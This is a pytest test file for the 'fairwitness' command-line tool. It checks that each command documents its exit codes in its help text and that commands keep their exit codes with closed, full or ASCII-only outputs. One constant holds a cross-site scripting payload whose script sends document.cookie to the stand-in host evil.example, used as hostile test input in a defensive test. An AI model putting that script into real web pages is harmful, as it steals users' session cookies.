"""What every command says of itself, and that no output, reader or encoding makes one break."""

from __future__ import annotations

import asyncio
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from cyclopts import App

from fairwitness.cli.main import app, main
from fairwitness.contract.requests import FeedbackRequest
from fairwitness.feedback import ContactSeal, feedback_of
from fairwitness.ledger import ledger_of
from fairwitness.service.call import Call
from fairwitness.service.feedback import SubmitFeedback
from fairwitness.settings import Settings


def commands(of: App = app, path: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """Return the words of every command, as `--help` lists them."""
    names = [name for name in of if not name.startswith("-")]
    return [path, *(found for name in names for found in commands(of[name], (*path, name)))]


@pytest.mark.parametrize("command", commands(), ids=" ".join)
def test_every_command_has_help_that_names_its_exit_codes(
    command: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as ended:
        main([*command, "--help"])
    assert ended.value.code == 0
    told = capsys.readouterr().out
    assert told.startswith(" ".join(["Usage: fairwitness", *command]))
    assert "[default: False]" not in told
    assert "COMMAND" in told or "\nExit code: 0" in told


BEACON = "Look <script>fetch('https://evil.example/'+document.cookie)</script>"
WRITERS = [
    ("--help",),
    ("evaluate", "--prompt", "Hi", "--response", BEACON),
    ("switch", "status"),
    ("switch", "status", "--json"),
    ("feedback", "list"),
    ("feedback", "export"),
    ("keys", "show"),
]


@pytest.fixture(scope="module")
def used(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder whose ledger and feedback were used, with words beyond ASCII in both."""
    folder = tmp_path_factory.mktemp("used")
    settings = Settings(data_dir=folder)

    async def use() -> None:
        ledger = ledger_of(settings)
        await ledger.turn_off("Preise geändert ☃", cancel=False)
        await ledger.close()
        store = feedback_of(settings)
        story = SubmitFeedback(store, ContactSeal.of(settings), lambda call: b"c" * 16)
        words = FeedbackRequest(
            contract_version="1.0.0", privacy_acknowledged=True, category="bug", message="naïve ☃"
        )
        await story(words, Call("r", "192.0.2.1"))
        await store.close()

    asyncio.run(use())
    return folder


@pytest.mark.parametrize("arguments", WRITERS, ids=lambda words: " ".join(words[:3]))
@pytest.mark.parametrize(
    ("output", "encoding", "failed"),
    [
        ("| head -c 1", "utf-8", False),
        (">&-", "utf-8", False),
        (">/dev/full", "utf-8", True),
        ("", "ascii", False),
    ],
    ids=["reader leaves", "closed", "full", "ascii"],
)
def test_no_output_breaks_a_command_or_changes_its_exit_code(
    used: Path, arguments: tuple[str, ...], output: str, encoding: str, failed: bool
) -> None:
    command = shlex.join([sys.executable, "-m", "fairwitness", *arguments])
    given = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
    done = subprocess.run(
        ["bash", "-o", "pipefail", "-c", f"{command} {output}"],
        env=given | {"FAIRWITNESS_DATA_DIR": str(used), "PYTHONIOENCODING": encoding},
        capture_output=True,
        timeout=60,
        check=False,
    )
    if failed:
        assert done.stderr == b"fairwitness: the output: No space left on device\n"
        assert done.returncode == 2
    else:
        assert done.stderr == b""
        assert done.returncode == (1 if arguments[0] == "evaluate" else 0)
